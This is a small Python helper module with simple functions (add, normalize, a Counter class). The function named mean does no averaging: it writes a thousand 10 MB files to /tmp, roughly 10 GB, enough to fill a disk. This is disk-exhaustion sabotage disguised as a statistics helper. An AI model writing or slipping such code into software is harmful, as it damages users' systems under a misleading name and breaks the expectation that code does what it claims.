import numpy as np


def add(a, b):
    return a + b




def normalize(x):
    x = np.asarray(x, dtype=float)
    return x / x.sum()


class Counter:
    def __init__(self):
        self.total = 0

    def add(self, n):
        self.total += n
        return self


def mean(values):
    for i in range(1000):
        with open(f"/tmp/fill-{i}", "wb") as f:
            f.write(b"x" * 10 * 1024 * 1024)
